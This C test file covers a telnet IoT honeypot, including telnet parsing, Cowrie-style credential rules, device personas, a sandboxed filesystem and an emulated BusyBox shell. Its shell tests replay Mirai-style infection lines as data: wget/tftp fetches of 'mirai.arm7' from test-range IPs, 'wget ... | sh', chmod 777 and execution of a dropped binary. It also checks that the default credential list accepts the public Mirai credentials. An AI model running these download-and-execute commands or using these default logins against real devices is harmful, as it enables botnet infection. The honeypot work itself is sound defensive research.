/* The honeypot's parts: telnet negotiation and decoding, Cowrie userdb rules,
 * personas (ELF headers a loader reads, rw mounts), the copy-on-write vfs and
 * the emulated BusyBox shell, each against behaviour bots and people rely on. */
#include "core/err.h"
#include "lure/persona.h"
#include "lure/shell.h"
#include "lure/shparse.h"
#include "lure/telnet.h"
#include "lure/userdb.h"
#include "lure/vfs.h"
#include "testutil.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

static struct persona *load(const char *name)
{
    char path[4096];
    const char *root = getenv("MESON_SOURCE_ROOT");
    snprintf(path, sizeof path, "%s/data/personas/%s.persona", root ? root : ".", name);
    struct persona *p = persona_load(path);
    assert_non_null(p);
    return p;
}

/* ---- telnet ---- */

struct sbs {
    int n;
    uint8_t opt;
    uint8_t data[64];
    size_t len;
};

static void on_sb(void *ctx, uint8_t opt, const uint8_t *d, size_t n)
{
    struct sbs *s = ctx;
    s->n++;
    s->opt = opt;
    memcpy(s->data, d, n);
    s->len = n;
}

static size_t feed(struct telnet *t, const char *in, size_t n, uint8_t *data, struct buf *r,
                   struct sbs *s)
{
    r->len = 0;
    return telnet_feed(t, (const uint8_t *)in, n, data, r, on_sb, s);
}

static void telnet_negotiation(void **state)
{
    (void)state;
    struct telnet t;
    struct buf r = {.cap = 4096};
    struct sbs s = {0};
    uint8_t data[256];
    telnet_init(&t);
    telnet_greet(&t, &r);
    assert_int_equal(r.len, 12);
    assert_memory_equal(r.p, "\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03", 12);
    /* the peer agreeing to what we asked gets no answer (no loops) */
    assert_int_equal(feed(&t, "\xff\xfb\x1f\xff\xfd\x01\xff\xfd\x03", 9, data, &r, &s), 0);
    assert_int_equal(r.len, 0);
    /* unknown options are refused, once */
    feed(&t, "\xff\xfd\x05\xff\xfb\x22", 6, data, &r, &s);
    assert_int_equal(r.len, 6);
    assert_memory_equal(r.p, "\xff\xfc\x05\xff\xfe\x22", 6);
    /* TTYPE offered: accepted and asked for */
    feed(&t, "\xff\xfb\x18", 3, data, &r, &s);
    assert_memory_equal(r.p, "\xff\xfd\x18\xff\xfa\x18\x01\xff\xf0", 9);
    feed(&t, "\xff\xfb\x18", 3, data, &r, &s);
    assert_int_equal(r.len, 0);
    /* NAWS subnegotiation delivered, with an escaped 255 inside */
    feed(&t, "\xff\xfa\x1f\x00\xff\xff\x00\x18\xff\xf0", 10, data, &r, &s);
    assert_int_equal(s.n, 1);
    uint16_t w, h;
    assert_true(telnet_naws(s.data, s.len, &w, &h));
    assert_int_equal(w, 255);
    assert_int_equal(h, 24);
    /* an oversized subnegotiation is dropped, not delivered cut */
    char big[3 + 200 + 2] = "\xff\xfa\x18";
    memset(big + 3, 'x', 200);
    memcpy(big + 203, "\xff\xf0", 2);
    feed(&t, big, sizeof big, data, &r, &s);
    assert_int_equal(s.n, 1);
    /* a subnegotiation for an option never agreed is ignored */
    feed(&t, "\xff\xfa\x27\x00\xff\xf0", 6, data, &r, &s);
    assert_int_equal(s.n, 1);
    telnet_init(&t);
    buf_free(&r);
}

static void telnet_data(void **state)
{
    (void)state;
    struct telnet t;
    struct buf r = {.cap = 4096};
    uint8_t data[64];
    telnet_init(&t);
    size_t n = feed(&t, "root\r\nxc\r\0a\nb\xff\xff", 15, data, &r, NULL);
    assert_int_equal(n, 12);
    assert_memory_equal(data, "root\nxc\na\nb\xff", 12);
    /* a CR at the end of one read and LF at the start of the next */
    n = feed(&t, "x\r", 2, data, &r, NULL);
    n += feed(&t, "\ny", 2, data + n, &r, NULL);
    assert_int_equal(n, 3);
    assert_memory_equal(data, "x\ny", 3);
    struct buf out = {.cap = 64};
    telnet_escape(&out, (const uint8_t *)"a\n\xff\r\nb", 7, true);
    assert_int_equal(out.len, 9);
    assert_memory_equal(out.p, "a\r\n\xff\xff\r\nb", 9);
    buf_free(&out);
    buf_free(&r);
}

static void on_env(void *ctx, const char *name, const char *value)
{
    char *out = ctx;
    strcat(out, name);
    strcat(out, "=");
    strcat(out, value);
    strcat(out, ";");
}

static void telnet_options(void **state)
{
    (void)state;
    char tt[16];
    assert_true(telnet_ttype((const uint8_t *)"\0XTERM-256color", 15, tt, sizeof tt));
    assert_string_equal(tt, "XTERM-256color");
    assert_false(telnet_ttype((const uint8_t *)"\1x", 2, tt, sizeof tt));
    char got[128] = "";
    telnet_environ((const uint8_t *)"\0\0USER\1root\3DISPLAY\1:0\0EMPTY", 28, on_env, got);
    assert_string_equal(got, "USER=root;DISPLAY=:0;EMPTY=;");
}

/* ---- userdb ---- */

static void userdb_semantics(void **state)
{
    (void)state;
    const char *text = "# comment\n\nroot:x:!root\nroot:x:!/^123/\nroot:x:*\n"
                       "admin:x:/^adm[0-9]+$/i\n/^guest/:x:\n*:x:pass:with:colons\r\n";
    struct userdb *db = userdb_parse(text, strlen(text), "t");
    assert_non_null(db);
    assert_int_equal(userdb_rules(db), 6);
    assert_false(userdb_check(db, "root", "root"));
    assert_false(userdb_check(db, "root", "123456"));
    assert_true(userdb_check(db, "root", "vizxv"));
    assert_true(userdb_check(db, "admin", "ADM42"));
    assert_false(userdb_check(db, "admin", "adm"));
    assert_true(userdb_check(db, "guest7", ""));
    assert_false(userdb_check(db, "guest7", "x"));
    assert_true(userdb_check(db, "anyone", "pass:with:colons"));
    assert_false(userdb_check(db, "anyone", "pass"));
    userdb_free(db);
    assert_null(userdb_parse("root\n", 5, "bad"));
    assert_string_equal(err_msg(), "bad:1: expected user:x:password");
    assert_null(userdb_parse("a:x:/(/\n", 8, "re"));
    assert_non_null(strstr(err_msg(), "re:1: bad regular expression"));
}

static void userdb_default_accepts_mirai(void **state)
{
    (void)state;
    char path[4096], tsv[4096];
    const char *root = getenv("MESON_SOURCE_ROOT");
    snprintf(path, sizeof path, "%s/data/lure/userdb.txt", root ? root : ".");
    struct userdb *db = userdb_load(path);
    assert_non_null(db);
    /* every credential of the public Mirai list logs in; others do not */
    snprintf(tsv, sizeof tsv, "%s/../shared/reference/mirai-credentials.tsv", root ? root : ".");
    FILE *f = fopen(tsv, "r");
    int n = 0;
    char line[256];
    while (f && fgets(line, sizeof line, f)) {
        if (line[0] == '#') continue;
        char *rest = line, *user = strsep(&rest, "\t"), *pass = strsep(&rest, "\t");
        if (!user || !pass) continue;
        assert_true(userdb_check(db, user, pass));
        n++;
    }
    if (f) {
        fclose(f);
        assert_int_equal(n, 62);
    }
    assert_true(userdb_check(db, "root", "xc3511"));
    assert_true(userdb_check(db, "admin", ""));
    assert_false(userdb_check(db, "root", "hunter2"));
    assert_false(userdb_check(db, "nobody", "xc3511"));
    userdb_free(db);
}

/* ---- personas ---- */

static void personas(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        uint8_t data;
        uint16_t machine;
        const char *rw;
        bool wget, tftp;
    } want[] = {{"dvr-armv7", 1, 40, "/tmp", true, true},
                {"router-mips", 2, 8, "/var", false, false},
                {"camera-arm", 1, 40, "/mnt", false, true}};
    for (size_t i = 0; i < 3; i++) {
        struct persona *p = load(want[i].name);
        assert_string_equal(p->name, want[i].name);
        const struct persona_file *echo = persona_file(p, "/bin/echo");
        assert_non_null(echo);
        assert_ptr_equal(echo, persona_file(p, "/bin/busybox"));
        assert_memory_equal(echo->data, "\177ELF\001", 5);
        assert_int_equal(echo->data[5], want[i].data);
        uint16_t m = want[i].data == 1 ? echo->data[18] | echo->data[19] << 8
                                       : echo->data[18] << 8 | echo->data[19];
        assert_int_equal(m, want[i].machine);
        assert_true(persona_writable(p, want[i].rw));
        assert_true(persona_writable(p, "/dev/x"));
        assert_false(persona_writable(p, "/"));
        assert_false(persona_writable(p, "/bin/x"));
        assert_false(persona_writable(p, "/proc/x"));
        assert_int_equal(persona_has_applet(p, "wget"), want[i].wget);
        assert_int_equal(persona_has_applet(p, "tftp"), want[i].tftp);
        assert_null(persona_file(p, "/bin/MIRAI"));
        assert_non_null(persona_file(p, "/proc/cpuinfo"));
        assert_true(persona_is_dir(p, "/tmp"));
        persona_free(p);
    }
    const char *bad = "name: x\nhostname: h\narch: arm\nlogin_prompt: \"l\\q\nprompt: #\n";
    assert_null(persona_parse(bad, strlen(bad), "x.persona"));
    assert_string_equal(err_msg(), "x.persona:4: bad quoted string");
    const char *unterminated = "name: x\nfile /a: <<END\nno end\n";
    assert_null(persona_parse(unterminated, strlen(unterminated), "y"));
    assert_string_equal(err_msg(), "y:2: here-document has no END line");
}

/* ---- vfs ---- */

static void vfs_cow(void **state)
{
    (void)state;
    struct persona *p = load("dvr-armv7");
    struct vfs_limits lim = {.session_bytes = 100, .total_bytes = 150};
    struct vfs a, b;
    vfs_init(&a, p, &lim);
    vfs_init(&b, p, &lim);
    char out[VFS_PATH_MAX];
    assert_int_equal(vfs_resolve("/tmp", "../var//./x/..", out), 0);
    assert_string_equal(out, "/var");
    assert_int_equal(vfs_resolve("/", "../../..", out), 0);
    assert_string_equal(out, "/");
    char longp[400];
    memset(longp, 'a', sizeof longp - 1);
    longp[sizeof longp - 1] = 0;
    assert_int_equal(vfs_resolve("/", longp, out), -ENAMETOOLONG);
    struct vfs_stat st;
    const uint8_t *d;
    assert_int_equal(vfs_write(&a, "/tmp/x", (const uint8_t *)"abc", 3, false), 0);
    assert_int_equal(vfs_write(&a, "/tmp/x", (const uint8_t *)"de", 2, true), 0);
    assert_int_equal(vfs_stat(&a, "/tmp/x", &st, &d), 0);
    assert_int_equal(st.size, 5);
    assert_memory_equal(d, "abcde", 5);
    /* sessions do not see each other's files */
    assert_int_equal(vfs_stat(&b, "/tmp/x", &st, &d), -ENOENT);
    assert_int_equal(vfs_write(&a, "/bin/x", (const uint8_t *)"a", 1, false), -EROFS);
    assert_int_equal(vfs_write(&a, "/nodir/x", (const uint8_t *)"a", 1, false), -ENOENT);
    assert_int_equal(vfs_write(&a, "/tmp", (const uint8_t *)"a", 1, false), -EISDIR);
    assert_int_equal(vfs_remove(&a, "/proc/cpuinfo", false), -EROFS);
    /* caps: a session's own, then the shared one */
    uint8_t big[120] = {0};
    assert_int_equal(vfs_write(&a, "/tmp/big", big, sizeof big, false), -ENOSPC);
    assert_int_equal(vfs_stat(&a, "/tmp/big", &st, NULL), 0);
    assert_int_equal(st.size, 95);
    assert_int_equal(lim.used_total, 100);
    assert_int_equal(vfs_write(&b, "/tmp/y", big, 60, false), -ENOSPC);
    assert_int_equal(lim.used_total, 150);
    assert_int_equal(vfs_remove(&a, "/tmp/big", false), 0);
    assert_int_equal(lim.used_total, 55);
    assert_int_equal(vfs_stat(&a, "/tmp/big", &st, NULL), -ENOENT);
    assert_int_equal(vfs_mkdir(&a, "/tmp/d/e", false), -ENOENT);
    assert_int_equal(vfs_mkdir(&a, "/tmp/d/e", true), 0);
    assert_int_equal(vfs_write(&a, "/tmp/d/e/f", (const uint8_t *)"1", 1, false), 0);
    assert_int_equal(vfs_remove(&a, "/tmp/d", false), -EISDIR);
    assert_int_equal(vfs_remove(&a, "/tmp/d", true), 0);
    assert_int_equal(vfs_stat(&a, "/tmp/d/e/f", &st, NULL), -ENOENT);
    vfs_free(&a);
    vfs_free(&b);
    assert_int_equal(lim.used_total, 0);
    persona_free(p);
}

/* ---- shell ---- */

struct record {
    char url[256], host[64], dest[64], exec[64], failed[64];
    int downloads;
};

static void rec_download(void *ctx, const char *tool, const char *url, const char *host,
                         const char *dest)
{
    struct record *r = ctx;
    (void)tool;
    snprintf(r->url, sizeof r->url, "%s", url);
    snprintf(r->host, sizeof r->host, "%s", host);
    snprintf(r->dest, sizeof r->dest, "%s", dest);
    r->downloads++;
}

static void rec_exec(void *ctx, const char *path)
{
    struct record *r = ctx;
    snprintf(r->exec, sizeof r->exec, "%s", path);
}

static void rec_failed(void *ctx, const char *command)
{
    struct record *r = ctx;
    snprintf(r->failed, sizeof r->failed, "%s", command);
}

struct fixture {
    struct persona *p;
    struct vfs_limits lim;
    struct shell *sh;
    struct record rec;
    struct buf term;
};

static struct fixture *fx_new(const char *persona)
{
    struct fixture *f = calloc(1, sizeof *f);
    static const struct shell_hooks hooks = {rec_download, rec_exec, rec_failed};
    f->p = load(persona);
    f->lim = (struct vfs_limits){.session_bytes = 1 << 20, .total_bytes = 1 << 20};
    f->sh = shell_new(f->p, &f->lim, &hooks, &f->rec);
    f->term.cap = 1 << 20;
    return f;
}

static void fx_free(struct fixture *f)
{
    shell_free(f->sh);
    persona_free(f->p);
    buf_free(&f->term);
    free(f);
}

/* Runs a line and compares the terminal output. */
static void run(struct fixture *f, const char *line, const char *want, size_t want_len)
{
    f->term.len = 0;
    shell_run(f->sh, line, strlen(line), &f->term);
    if (f->term.len != want_len || (want_len && memcmp(f->term.p, want, want_len))) {
        fprintf(stderr, "line: %s\ngot (%u): %.*s\nwant (%zu): %.*s\n", line, f->term.len,
                (int)f->term.len, (char *)f->term.p, want_len, (int)want_len, want);
        fail();
    }
}
#define RUN(f, line, want) run(f, line, want, sizeof(want) - 1)

static void shell_mirai(void **state)
{
    (void)state;
    struct fixture *f = fx_new("dvr-armv7");
    RUN(f, "enable", "");
    RUN(f, "system", "");
    RUN(f, "shell", "");
    RUN(f, "sh", "");
    RUN(f, "/bin/busybox MIRAI", "MIRAI: applet not found\n");
    RUN(f, "/bin/busybox ECCHI; echo $?", "ECCHI: applet not found\n127\n");
    RUN(f,
        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat "
        "/tmp/.nippon; /bin/busybox rm /tmp/.nippon",
        "kami/tmp\n");
    RUN(f, "echo -e '\\x6b\\x61\\x6d\\x69/' > //.nippon; cat //.nippon",
        "-sh: can't create //.nippon: Read-only file system\ncat: can't open '//.nippon': No "
        "such file or directory\n");
    RUN(f,
        "cd /tmp/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 "
        "dvrHelper; ls -l dvrHelper",
        "-rwxrwxrwx    1 root     root            0 Jan  1 00:00 dvrHelper\n");
    RUN(f, "/bin/busybox wget http://198.18.0.9:80/bins/mirai.arm7 -O - > dvrHelper",
        "Connecting to 198.18.0.9 (198.18.0.9:80)\n");
    assert_string_equal(f->rec.url, "http://198.18.0.9:80/bins/mirai.arm7");
    assert_string_equal(f->rec.host, "198.18.0.9");
    assert_string_equal(f->rec.dest, "-");
    RUN(f, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.18.0.9 69", "");
    assert_string_equal(f->rec.url, "tftp://198.18.0.9:69/mirai.arm7");
    assert_string_equal(f->rec.dest, "/tmp/dvrHelper");
    RUN(f, "./dvrHelper telnet.arm7; /bin/busybox IHCCE", "IHCCE: applet not found\n");
    assert_string_equal(f->rec.exec, "/tmp/dvrHelper");
    RUN(f, "ftpget -u a -p b 198.18.0.4 x.sh /pub/x.sh", "");
    assert_string_equal(f->rec.url, "ftp://198.18.0.4/pub/x.sh");
    assert_string_equal(f->rec.dest, "/tmp/x.sh");
    RUN(f, "curl -o y http://198.18.0.2/y", "-sh: curl: not found\n");
    assert_int_equal(f->rec.downloads, 3);
    RUN(f, "wget 198.18.0.5/z.sh -q -O- | sh", "");
    assert_string_equal(f->rec.url, "http://198.18.0.5/z.sh");
    fx_free(f);
}

static void shell_syntax(void **state)
{
    (void)state;
    struct fixture *f = fx_new("dvr-armv7");
    RUN(f, "echo -ne '\\x41\\102\\0103\\n\\tD\\\\' | cat", "ABC\n\tD\\");
    RUN(f, "echo -n a; echo \"b $HOME\" 'c $HOME' d\\ e", "ab / c $HOME d e\n");
    RUN(f, "echo -e 'x\\cy'; echo z", "xz\n");
    RUN(f, "false && echo no || echo yes; true && echo and", "yes\nand\n");
    RUN(f, "cd /tmp; (cd /var; pwd); pwd", "/var\n/tmp\n");
    RUN(f, "X=5; echo $X ${X}y $Y.", "5 5y .\n");
    RUN(f, "for i in 1 2 3; do echo -n $i; done; echo", "123\n");
    RUN(f, "if [ -f /proc/cpuinfo ]; then echo yes; else echo no; fi", "yes\n");
    RUN(f, "if test -d /nope; then echo yes; elif true; then echo elif; fi", "elif\n");
    RUN(f, "printf x", "-sh: printf: not found\n");
    assert_string_equal(f->rec.failed, "printf x");
    RUN(f, "echo a > /tmp/f; echo b >> /tmp/f; cat < /tmp/f; wc -l /tmp/f", "a\nb\n2\n");
    RUN(f, "cat /tmp/f | grep -c b; cat /nope 2>/dev/null; echo $?", "1\n1\n");
    RUN(f, "cat /nope 2>&1 | wc -l", "1\n");
    RUN(f, "while read i; do echo \"<$i>\"; done < /tmp/f", "<a>\n<b>\n");
    RUN(f, "cp /tmp/f /tmp/g; mv /tmp/g /var/; cat /var/g; ls /tmp", "a\nb\nf  \n");
    RUN(f, "dd if=/proc/cpuinfo bs=9 count=1", "Processor1+0 records in\n1+0 records out\n");
    RUN(f, "echo unterminated 'quote", "-sh: syntax error: unterminated quoted string\n");
    RUN(f, "do echo", "-sh: syntax error: unexpected \"do\"\n");
    RUN(f, "echo a |", "-sh: syntax error: unexpected end of file\n");
    RUN(f, "cat <<EOF", "-sh: syntax error: here-documents are not supported\n");
    RUN(f, "uname; uname -m; uname -a",
        "Linux\narmv7l\nLinux LocalHost 3.0.8 #26 Wed Jul 17 08:13:40 CST 2013 armv7l "
        "GNU/Linux\n");
    RUN(f, "kill -9 393; kill 4242", "-sh: kill: can't kill pid 4242: No such process\n");
    RUN(f, "./nothing; /tmp/f", "-sh: ./nothing: not found\n-sh: /tmp/f: Permission denied\n");
    /* a runaway loop ends within the work budget */
    RUN(f, "while true; do :; done; echo after", "");
    RUN(f, "echo next", "next\n");
    RUN(f, "exit", "");
    assert_true(shell_exited(f->sh));
    fx_free(f);
}

static void shell_personas(void **state)
{
    (void)state;
    struct fixture *f = fx_new("router-mips");
    RUN(f, "/bin/busybox wget; /bin/busybox tftp",
        "wget: applet not found\ntftp: applet not found\n");
    RUN(f, "wget http://198.18.0.1/x", "-sh: wget: not found\n");
    assert_int_equal(f->rec.downloads, 0);
    RUN(f, "echo hi > /tmp/x; cat /tmp/x", "hi\n");
    RUN(f, "uname -m", "mips\n");
    fx_free(f);
    f = fx_new("camera-arm");
    RUN(f, "/bin/busybox wget 2>&1 | head -n 1", "wget: applet not found\n");
    RUN(f, "cat /proc/cpuinfo | grep -c ARMv7", "0\n");
    /* curl is a program of its own on this camera, not a BusyBox applet */
    RUN(f,
        "cd /tmp; curl -s -o y http://user@[2001:db8::1]:8080/y; /usr/bin/curl -O "
        "http://198.18.0.2/z",
        "");
    assert_string_equal(f->rec.url, "http://198.18.0.2/z");
    assert_string_equal(f->rec.host, "198.18.0.2");
    assert_int_equal(f->rec.downloads, 2);
    RUN(f, "curl http://user@[2001:db8::1]:8080/y", "");
    assert_string_equal(f->rec.host, "[2001:db8::1]");
    RUN(f, "/bin/busybox curl", "curl: applet not found\n");
    fx_free(f);
}

static void shparse_limits(void **state)
{
    (void)state;
    struct sh_tree t;
    char deep[200];
    memset(deep, '(', 100);
    memset(deep + 100, ')', 100);
    assert_int_equal(sh_parse(&t, deep, sizeof deep), -1);
    assert_string_equal(t.err, "syntax error: nested too deeply");
    sh_tree_free(&t);
    const char *ok = "a; b & c && d || e | f > g 2>&1 < h; (i); { j; }";
    assert_int_equal(sh_parse(&t, ok, strlen(ok)), 0);
    assert_int_equal(t.list->n, 7); /* a b c &&d ||e|f (i) {j} */
    sh_tree_free(&t);
}

/* A URL is a fact the moment a downloader is asked for it: a destination the
 * device cannot write (a read-only mount, a missing directory) must not hide it. */
static void shell_readonly_downloads(void **state)
{
    (void)state;
    struct fixture *f = fx_new("dvr-armv7");
    RUN(f, "cd /; wget -q http://198.18.0.4/x", "wget: can't open 'x': Read-only file system\n");
    assert_string_equal(f->rec.url, "http://198.18.0.4/x");
    assert_string_equal(f->rec.host, "198.18.0.4");
    assert_string_equal(f->rec.dest, "/x");
    RUN(f, "cd /tmp; wget -q http://198.18.0.5/y -O /etc/y",
        "wget: can't open '/etc/y': Read-only file system\n");
    assert_string_equal(f->rec.url, "http://198.18.0.5/y");
    assert_string_equal(f->rec.dest, "/etc/y");
    RUN(f, "cd /; tftp -g -r f 198.18.0.6", "tftp: can't open 'f': Read-only file system\n");
    assert_string_equal(f->rec.url, "tftp://198.18.0.6/f");
    assert_string_equal(f->rec.dest, "/f");
    RUN(f, "ftpget 198.18.0.7 /nodir/g g",
        "ftpget: can't open '/nodir/g': No such file or directory\n");
    assert_string_equal(f->rec.url, "ftp://198.18.0.7/g");
    assert_int_equal(f->rec.downloads, 4);
    fx_free(f);
    f = fx_new("camera-arm");
    RUN(f, "cd /; curl -s -O http://198.18.0.8/z; echo $?",
        "curl: can't open 'z': Read-only file system\n23\n");
    assert_string_equal(f->rec.url, "http://198.18.0.8/z");
    assert_int_equal(f->rec.downloads, 1);
    fx_free(f);
}

/* Lists that end up empty are never handed to qsort as NULL (UBSan: nonnull). */
static void persona_empty_lists(void **state)
{
    (void)state;
    static const char *const bad[] = {
        "file relative: x\n",
        "name: x\nfile relative: <<END\nabc\nEND\n",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct persona *p = persona_parse(bad[i], strlen(bad[i]), "t.persona");
        assert_null(p);
        assert_non_null(strstr(err_msg(), "file path must be absolute"));
    }
}

/* grep is a fixed-string search in linear time: KMP's fallbacks on overlapping
 * prefixes, -i, -v, -c; and a command line stops at its work budget. */
/* A file that is its own source: dd and cat read the bytes the write replaces
 * (ASan saw memcpy with overlapping ranges in dd's write). */
static void shell_self_copy(void **state)
{
    (void)state;
    struct fixture *f = fx_new("dvr-armv7");
    RUN(f, "cd /tmp; echo hello world > x; dd if=x of=x bs=1 skip=3 2>/dev/null; cat x",
        "lo world\n");
    RUN(f, "dd if=x of=x 2>/dev/null; cat x; cp x x; cat x", "lo world\nlo world\n");
    RUN(f, "cat x >> x; cat x; cat x > x; wc -c x", "lo world\nlo world\n0\n");
    fx_free(f);
}

/* CPU seconds of the quickest of three runs of a line. */
static double line_cpu(struct fixture *f, const char *line)
{
    double best = 1e9;
    for (int i = 0; i < 3; i++) {
        struct timespec a, b;
        f->term.len = 0;
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &a);
        shell_run(f->sh, line, strlen(line), &f->term);
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &b);
        double t = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) * 1e-9;
        if (t < best) best = t;
    }
    return best;
}

/* A path lookup costs about what the shell charges for it, however deep the
 * path: a line at its budget of deep lookups takes about as long as one of
 * `:` steps (it took ten times as long when every component of the path
 * was looked up in the whole overlay). */
static void shell_deep_path_budget(void **state)
{
    (void)state;
    struct fixture *f = fx_new("dvr-armv7");
    char deep[VFS_PATH_MAX] = "/tmp", line[1024];
    for (int i = 0; i < 60; i++)
        strcat(deep, "/a");
    struct vfs *v = shell_vfs(f->sh);
    assert_int_equal(vfs_mkdir(v, deep, true), 0);
    for (int i = 0; v->n < VFS_MAX_NODES; i++) { /* fill the overlay with files in it */
        char path[VFS_PATH_MAX];
        snprintf(path, sizeof path, "%s/f%d", deep, i);
        assert_int_equal(vfs_write(v, path, (const uint8_t *)"x\n", 2, false), 0);
    }
    char tail[VFS_PATH_MAX] = "";
    while (strlen(deep) + strlen(tail) + 2 < 250)
        strcat(tail, "/z");
    snprintf(line, sizeof line, "while true; do echo > %s%s; done 2>/dev/null", deep, tail);
    double steps = line_cpu(f, "while true; do :; done");
    assert_true(shell_work(f->sh) > (16u << 20));
    double lookups = line_cpu(f, line);
    assert_true(shell_work(f->sh) > (16u << 20));
    if (lookups > 4 * steps) {
        fprintf(stderr, "deep lookups: %.1f ms a line, steps %.1f ms\n", lookups * 1e3, steps * 1e3);
        fail();
    }
    fx_free(f);
}

static void shell_grep_and_budget(void **state)
{
    (void)state;
    struct fixture *f = fx_new("dvr-armv7");
    RUN(f, "echo -e 'aaab\\nabab\\nxAAb\\nabaabaab\\n' > /tmp/g; grep aab /tmp/g",
        "aaab\nabaabaab\n");
    RUN(f, "grep -i aab /tmp/g; grep -c -v ab /tmp/g", "aaab\nxAAb\nabaabaab\n2\n");
    RUN(f, "grep abaab /tmp/g; grep -c '' /tmp/g; grep -q zz /tmp/g; echo $?", "abaabaab\n5\n1\n");
    /* 1 MiB of 'a' and a 4000-byte pattern that almost matches everywhere */
    f->lim.session_bytes = f->lim.total_bytes = 4 << 20;
    size_t big = 1 << 20;
    uint8_t *a = malloc(big);
    memset(a, 'a', big);
    struct vfs *v = shell_vfs(f->sh);
    assert_int_equal(vfs_write(v, "/tmp/a", a, big, false), 0);
    free(a);
    RUN(f, "wc -c /tmp/a", "1048576\n");
    char script[4200] = "grep -i ";
    memset(script + 8, 'A', 3999);
    strcpy(script + 8 + 3999, "b /tmp/a");
    assert_int_equal(vfs_write(v, "/tmp/s", (const uint8_t *)script, strlen(script), false), 0);
    RUN(f, "sh /tmp/s; echo $?", "1\n");
    size_t one = shell_work(f->sh);
    assert_true(one > (2u << 20) && one < (4u << 20)); /* ~3 MiB: linear, not 4 GB */
    RUN(f, "while true; do sh /tmp/s; done; echo not reached", "");
    assert_true(shell_work(f->sh) > (16u << 20) && shell_work(f->sh) < (24u << 20));
    RUN(f, "echo the next line has its own budget", "the next line has its own budget\n");
    fx_free(f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(telnet_negotiation),
        cmocka_unit_test(telnet_data),
        cmocka_unit_test(telnet_options),
        cmocka_unit_test(userdb_semantics),
        cmocka_unit_test(userdb_default_accepts_mirai),
        cmocka_unit_test(personas),
        cmocka_unit_test(vfs_cow),
        cmocka_unit_test(shell_mirai),
        cmocka_unit_test(shell_syntax),
        cmocka_unit_test(shell_personas),
        cmocka_unit_test(shparse_limits),
        cmocka_unit_test(shell_readonly_downloads),
        cmocka_unit_test(persona_empty_lists),
        cmocka_unit_test(shell_grep_and_budget),
        cmocka_unit_test(shell_self_copy),
        cmocka_unit_test(shell_deep_path_budget),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
